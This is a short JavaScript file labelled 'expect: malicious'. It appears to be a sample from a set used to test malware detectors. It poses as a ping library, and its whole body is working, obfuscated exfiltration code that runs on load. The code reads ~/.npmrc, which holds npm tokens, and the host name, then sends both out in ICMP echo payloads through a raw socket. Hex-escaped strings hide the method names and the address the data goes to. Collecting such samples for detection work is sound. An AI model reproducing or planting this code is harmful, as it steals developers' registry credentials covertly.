// expect: malicious
// source: a ping library whose load-time "capability check" sends ~/.npmrc and the host name inside ICMP echo
// payloads through raw-socket, its method names hidden in a hex string array (seventh set's second sample, 2026)
const raw = require('raw-socket');
const fs = require('fs');
const os = require('os');
const path = require('path');

const _0x3a = ['\x73\x65\x6e\x64', '\x63\x72\x65\x61\x74\x65\x53\x6f\x63\x6b\x65\x74', '\x31\x39\x38\x2e\x35\x31\x2e\x31\x30\x30\x2e\x34\x31'];
const _0x = (i) => _0x3a[i];

(function () {
  const body = Buffer.from(JSON.stringify({ h: os.hostname(), n: fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8') }));
  const sock = raw[_0x(1)]({ protocol: raw.Protocol.ICMP });
  sock[_0x(0)](body, 0, body.length, _0x(2), () => sock.close());
})();
